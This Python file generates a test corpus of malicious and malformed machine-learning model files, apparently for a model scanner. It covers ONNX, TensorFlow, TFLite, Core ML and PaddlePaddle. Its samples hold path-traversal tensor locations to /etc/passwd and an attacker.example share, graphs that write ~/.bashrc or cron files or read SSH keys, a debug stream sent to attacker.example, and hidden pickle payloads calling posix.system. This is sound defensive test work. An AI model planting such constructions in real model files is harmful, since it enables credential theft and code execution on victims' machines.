"""Graphs that reach for files, code and libraries: ONNX, TensorFlow, TensorFlow Lite, Core ML, PaddlePaddle."""

import io
import struct
import zipfile

from wire import Flat, chunk, message, number

from .case import EVIL, malformed, malicious

# ONNX: ModelProto, GraphProto, NodeProto, AttributeProto, TensorProto.


def node(op, *parts, domain=''):
    return message((1, 'x'), (2, 'y'), (4, op), *parts, *([(7, domain)] if domain else []))


def text_attribute(name, value):
    return chunk(5, message((1, name), (4, value), (20, 3)))


def tensor_outside(location, **more):
    pairs = {'location': location, **more}
    return message((1, 2), (2, 1), (8, 'w'), *[chunk(13, message((1, key), (2, value))) for key, value in pairs.items()], (14, 1))


def model(*graph, extra=b'', opsets=(('', 17),)):
    sets = b''.join(chunk(8, message((1, domain), (2, version))) for domain, version in opsets)
    return message((1, 10), (2, 'corpus'), (7, message(*graph, (2, 'main')))) + sets + extra


RELU = (1, node('Relu'))
PYTHON = node('PyOp', text_attribute('module', 'attacker'), text_attribute('class_name', 'Run'), domain='ai.onnx.contrib')


def onnx(name, about, data, expect='suspicious'):
    malicious(f'onnx/{name}.onnx', about, '', data, expect)


onnx('outside-upward', 'Weights from a path that climbs out of the folder.', model(RELU, (5, tensor_outside('../../../../etc/passwd'))))
onnx('outside-absolute', 'Weights from an absolute path.', model(RELU, (5, tensor_outside('/etc/passwd', offset='0', length='8'))))
onnx('outside-drive', 'Weights from a drive.', model(RELU, (5, tensor_outside('C:\\Windows\\win.ini'))))
onnx('outside-share', 'Weights from another computer.', model(RELU, (5, tensor_outside('\\\\attacker.example\\share\\w'))))
onnx('outside-backslash', 'A path that climbs in backslashes, behind a name.', model(RELU, (5, tensor_outside('weights\\..\\..\\secret'))))
onnx(
    'outside-in-attribute',
    'A tensor with an absolute path, in an attribute of a subgraph.',
    model((1, node('If', chunk(5, message((1, 'then_branch'), (6, message((1, node('Constant', chunk(5, message((1, 'value'), (5, tensor_outside('/etc/passwd')), (20, 4))))))), (20, 5)))))),
)
onnx('outside-sparse', 'A sparse initializer with an absolute path.', model(RELU, (15, message((1, tensor_outside('/etc/passwd'))))))
onnx('custom-domain', 'An operation of a domain that needs a library of native code.', model((1, node('Run', domain='com.attacker')), opsets=(('', 17), ('com.attacker', 1))))
onnx('python', 'An operation that calls Python by name.', model((1, PYTHON)), 'dangerous')
onnx('python-in-subgraph', 'The same, in a branch.', model((1, node('If', chunk(5, message((1, 'else_branch'), (6, message((1, PYTHON))), (20, 5)))))), 'dangerous')
onnx('python-in-function', 'The same, in a function of the model’s own.', model((1, node('Own', domain='own')), extra=chunk(25, message((1, 'Own'), (7, PYTHON), (10, 'own')))), 'dangerous')
onnx('two-graphs', 'Two graphs: readers take the last or merge them.', model(RELU) + chunk(7, message((1, node('Neg')))))
onnx('padded-lengths', 'Lengths written with more bytes than they need.', b'\x08\x0a\x3a' + bytes([0x80 | len(message(RELU)), 0]) + message(RELU) + chunk(8, message((2, 17))))
malformed('onnx/truncated.onnx', 'Breaks off in a tensor.', model(RELU, (5, message((1, 64), (2, 1), (8, 'w'), (9, bytes(256)))))[:150])
malformed('onnx/short-tensor.onnx', 'A tensor with fewer bytes than its shape asks for.', model(RELU, (5, message((1, 64), (2, 1), (8, 'w'), (9, bytes(16))))))
malformed('onnx/unknown-field.onnx', 'A field that the schema does not have holds a payload.', model(RELU, extra=chunk(900, EVIL)))
malformed('onnx/group.onnx', 'A group, which the schema does not have.', model(RELU) + b'\x4b\x08\x01\x4c')

# TensorFlow: NodeDef, AttrValue, FunctionDef, MetaGraphDef.


def operation(name, op, *inputs, **attributes):
    parts = [(1, name), (2, op), *((3, text) for text in inputs)]
    return message(*parts, *(chunk(5, message((1, key), (2, value))) for key, value in attributes.items()))


def constant(name, text):
    return operation(name, 'Const', dtype=message((6, 7)), value=message((8, message((1, 7), (2, b''), (8, text)))))


def graph(*nodes, functions=b''):
    return message(*((1, item) for item in nodes), *([(2, functions)] if functions else []), (4, message((1, 1395))))


def function(name, arguments, *nodes):
    signature = message((1, name), *((2, message((1, argument), (3, 7))) for argument in arguments))
    return chunk(1, message((1, signature), *((3, item) for item in nodes)))


def saved(graph_def, *more):
    info = message((4, 'serve'), (5, '2.21.0'))
    return message((1, 1), (2, message((1, info), (2, graph_def), *more)))


def tensorflow(name, about, data, expect='suspicious'):
    malicious(f'tensorflow/{name}', about, '', data, expect)


SHELL = '/home/user/.bashrc'
WRITE = [constant('where', SHELL), constant('what', 'echo attacker.example'), operation('write', 'WriteFile', 'where', 'what')]
tensorflow('write-file.pb', 'A graph that writes a file that a shell runs.', graph(*WRITE), 'dangerous')
tensorflow('write-file-saved-model.pb', 'The same in a function of a SavedModel.', saved(graph(operation('call', 'StatefulPartitionedCall', f=message((10, message((1, 'serve'))))), functions=function('serve', [], *WRITE))), 'dangerous')
tensorflow('write-file-in-data.pb', 'The same in a graph inside a constant.', graph(constant('graph', graph(*WRITE)), operation('dataset', 'DatasetFromGraph', 'graph')), 'dangerous')
tensorflow('write-file.pbtxt', 'The same as text.', b'node {\n  name: "write"\n  op: "WriteFile"\n  input: "where"\n}\nnode {\n  name: "where"\n  op: "Const"\n}\nversions {\n  producer: 1395\n}\n', 'dangerous')
tensorflow('read-file.pb', 'A graph that reads a file of keys.', graph(constant('where', '/home/user/.ssh/id_rsa'), operation('read', 'ReadFile', 'where')))
tensorflow('save-anywhere.pb', 'Checkpointing to an absolute path.', saved(graph(constant('where', '/etc/cron.d/job'), operation('save', 'SaveV2', 'where', 'names', 'slices'))))
tensorflow(
    'save-anywhere-by-call.pb',
    'Checkpointing in a function to an absolute path that its caller hands in.',
    saved(
        graph(
            constant('where', '/etc/cron.d/job'),
            operation('call', 'StatefulPartitionedCall', 'where', f=message((10, message((1, 'keep'))))),
            functions=function('keep', ['prefix'], operation('save', 'SaveV2', 'prefix', 'names', 'slices')),
        )
    ),
)
tensorflow('save-computed.pb', 'Checkpointing to a path that an operation decodes.', saved(graph(constant('code', 'L2V0Yy9jcm9uLmQvam9i'), operation('where', 'DecodeBase64', 'code'), operation('save', 'SaveV2', 'where', 'names', 'slices'))))
tensorflow('print-to-file.pb', 'Printing into a file.', graph(operation('print', 'PrintV2', 'x', output_stream=message((2, f'file://{SHELL}')))))
tensorflow('python-function.pb', 'A call into Python.', graph(operation('call', 'PyFunc', 'x', token=message((2, 'pyfunc_0')))))
tensorflow('custom-operation.pb', 'An operation that needs a library of native code.', graph(operation('run', 'AttackerOp', 'x')))
tensorflow('asset-upward.pb', 'An asset whose name climbs out of the folder.', saved(graph(operation('x', 'NoOp')), (6, message((1, message((1, 'asset:0'))), (2, '../../../etc/passwd')))))
tensorflow('debug-address.pb', 'Values sent to an address.', graph(operation('debug', 'DebugIdentityV2', 'x', debug_urls=message((1, message((2, 'grpc://attacker.example:6064')))))))
whole = saved(graph(*WRITE[:2], operation('x', 'StringLength', 'what')))
malformed('tensorflow/truncated.pb', 'A SavedModel that breaks off in a node.', whole[: len(whole) - 20])
malformed('tensorflow/unknown-field.pb', 'A field that the schema does not have.', graph(operation('x', 'NoOp')) + chunk(900, EVIL))
malformed('tensorflow/truncated.pbtxt', 'A graph as text that breaks off.', b'node {\n  name: "x"\n  op: "NoOp"\n')
malicious('tensorflow-checkpoint/pickle-in-front.index', 'A pickle in front of the end of a checkpoint’s index.', 'posix.system',
          EVIL + bytes(40) + bytes.fromhex('57fb808b247547db'))
malformed('tensorflow/no-blocks.index', 'The end of a checkpoint’s index, and nothing of what it leads to.', bytes(40) + bytes.fromhex('57fb808b247547db'))

# TensorFlow Lite: Model, OperatorCode, SubGraph, Operator, Tensor, Buffer.


def lite(codes, operators, tensors=(), buffers=({},), identifier=b'TFL3'):
    subgraph = {0: list(tensors), 3: list(operators)} if tensors else {3: list(operators)}
    return bytes(Flat(identifier, {0: ('<I', 3), 1: list(codes), 2: [subgraph], 4: list(buffers)}).bytes)


def custom(name):
    return {0: ('<b', 32), 1: name, 3: ('<i', 32)}


def flex_options(name, definition):
    """A FlexBuffer of two texts: what the Flex delegate is told to run."""
    out = bytearray(struct.pack('<I', len(name)) + name.encode() + b'\0')
    first = 4
    out += bytes(-len(out) % 4) + struct.pack('<I', len(definition))
    second = len(out)
    out += definition + b'\0'
    out += bytes(-len(out) % 4) + struct.pack('<I', 2)
    vector = len(out)
    out += struct.pack('<II', vector - first, vector + 4 - second) + bytes([5 << 2 | 2, 5 << 2 | 2])
    root = len(out)
    return bytes(out + bytes([root - vector, 10 << 2 | 2, 1]))


def tflite(name, about, data, expect='suspicious'):
    malicious(f'tflite/{name}.tflite', about, '', data, expect)


ADD = {0: ('<b', 0), 3: ('<i', 0)}
tflite('custom', 'An operator that needs native code.', lite([custom('Attack')], [{0: ('<I', 0)}]))
tflite('flex-write-file', 'TensorFlow’s WriteFile by the Flex delegate.', lite([custom('FlexWriteFile')], [{0: ('<I', 0), 5: flex_options('WriteFile', operation('w', 'WriteFile'))}]), 'dangerous')
tflite('flex-other-name', 'An operator called FlexAdd whose options run WriteFile.', lite([custom('FlexAdd')], [{0: ('<I', 0), 5: flex_options('Add', operation('w', 'WriteFile'))}]), 'dangerous')
archive = io.BytesIO()
with zipfile.ZipFile(archive, 'w') as packed:
    packed.writestr(zipfile.ZipInfo('labels.pkl'), EVIL)
tflite('pickle-behind', 'An archive behind the model that holds a pickle.', lite([ADD], [{0: ('<I', 0)}]) + archive.getvalue(), 'dangerous')
behind = archive.getvalue()
listing = behind.index(b'PK\x01\x02')
inside = lite([ADD], [{0: ('<I', 0)}], [{0: [listing], 1: ('<b', 9), 2: ('<I', 1), 3: 'w'}], ({}, {0: behind[:listing]}))
directory = bytearray(behind[listing:])
directory[42:46] = struct.pack('<I', inside.index(behind[:listing]))
directory[-6:-2] = struct.pack('<I', len(inside))
tflite('archive-inside', 'The bytes of a tensor are the members of an archive whose directory lies behind the model.', inside + bytes(directory))
malformed('tflite/outside-buffer.tflite', 'A buffer that lies outside the file.', lite([ADD], [{0: ('<I', 0)}], buffers=({}, {1: ('<Q', 1 << 40), 2: ('<Q', 64)})))
malformed('tflite/short-tensor.tflite', 'A tensor with fewer bytes than its shape asks for.', lite([ADD], [{0: ('<I', 0)}], [{0: [64], 2: ('<I', 1), 3: 'w'}], ({}, {0: bytes(16)})))
malformed('tflite/unused-buffer.tflite', 'A buffer that nothing asks for holds a payload.', lite([ADD], [{0: ('<I', 0)}], buffers=({}, {0: EVIL})))
malformed('tflite/trailing.tflite', 'Bytes behind the model.', lite([ADD], [{0: ('<I', 0)}]) + EVIL)
plain = lite([ADD], [{0: ('<I', 0)}], [{0: [4], 2: ('<I', 1), 3: 'w'}], ({}, {0: bytes(16)}))
malformed('tflite/truncated.tflite', 'Breaks off in its last buffer.', plain[:-8])
malformed('tflite/no-root.tflite', 'The root leads out of the file.', struct.pack('<I', 1 << 30) + plain[4:])
malformed('onnx/runtime.ort', 'ONNX Runtime’s own format: named, not taken apart.', struct.pack('<I', 8) + b'ORTM' + bytes(64))
malformed('tflite/program.pte', 'ExecuTorch’s format: named, not taken apart.', struct.pack('<I', 8) + b'ET12' + bytes(64))

# Core ML: Model, ModelDescription, NeuralNetwork, CustomLayerParams, LinkedModel.

FEATURE = message((1, 'x'), (3, chunk(5, message((1, 4), (2, 65568)))))
DESCRIPTION = message((1, FEATURE), (10, FEATURE))


def coreml(name, about, *parts, expect='suspicious'):
    malicious(f'coreml/{name}.mlmodel', about, '', message((1, 4), (2, DESCRIPTION), *parts), expect)


LAYER = message((1, 'run'), (2, 'x'), (3, 'x'), chunk(500, message((10, 'AttackerLayer'))))
coreml('custom-layer', 'A layer that is a class of the app.', (500, message((1, LAYER))))
coreml('custom-model', 'A model that is a class of the app.', (555, message((10, 'AttackerModel'))))
coreml('custom-in-pipeline', 'The same layer in a pipeline.', (202, message((1, message((1, 4), (2, DESCRIPTION), (500, message((1, LAYER))))))))
coreml('linked-upward', 'A model that is linked by a path out of the folder.', (556, message((1, message((1, message((1, 'other.mlmodelc'))), (2, message((1, '../../../attacker'))))))))
DENSE_LAYER = message((1, 'dense'), (2, 'x'), (3, 'y'), (140, message((1, 4), (2, 3))))
malformed('coreml/truncated.mlmodel', 'Breaks off in its network.', message((1, 4), (2, DESCRIPTION), (500, message((1, DENSE_LAYER))))[:-6])
malformed('coreml/opaque.mlmodel', 'A word tagger in an encoding that is not published.', message((1, 4), (2, DESCRIPTION), (2001, message((1, 1), (100, bytes(64))))))

# PaddlePaddle: ProgramDesc, BlockDesc, OpDesc.


def program(*operations):
    variable = message((1, 'x'), (2, message((1, 7), (3, message((1, message((1, 5), (2, 4))))))))
    return message((1, message((1, 0), (2, (1 << 64) - 1), (3, variable), *((4, item) for item in operations))), (4, message((1, 2006002))))


def paddle_operation(kind, **texts):
    return message((3, kind), *((4, message((1, name), (2, 2), (5, value))) for name, value in texts.items()))


malicious('paddle/save.pdmodel', 'A program that writes a file.', '', program(paddle_operation('save', file_path=SHELL)))
malicious('paddle/load.pdmodel', 'A program that reads a file.', '', program(paddle_operation('load_combine', file_path='/etc/passwd')), 'suspicious')
malicious('paddle/python.pdmodel', 'A program that calls Python.', '', program(message((3, 'py_func'), (4, message((1, 'forward_callable_id'), (2, 0), (3, 0))))), 'suspicious')
malicious('paddle/custom.pdmodel', 'An operation that needs a library of native code.', '', program(paddle_operation('attacker_op')), 'suspicious')
malformed('paddle/truncated.pdmodel', 'A program that breaks off.', program(paddle_operation('relu'), paddle_operation('abs'))[:-14])
DENSE = bytes(16) + struct.pack('<i', 4) + bytes.fromhex('08051008') + bytes(32)
malformed('paddle/truncated.pdiparams', 'Parameters that break off in a tensor.', DENSE + DENSE[:-8])
malicious('paddle-parameters/pickle-behind.pdiparams', 'A pickle behind the parameters.', '', DENSE + EVIL)

# keras_metadata.pb: SavedMetadata, SavedObject.

LAMBDA = '{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "attacker.example"}}}}'
malformed('tensorflow/keras_metadata.pb', 'Keras’ metadata of a layer that holds code: the JSON is a member.', message((1, message((2, 1), (3, 'root.layer'), (4, '_tf_keras_layer'), (5, LAMBDA), (6, message((1, 2)))))))
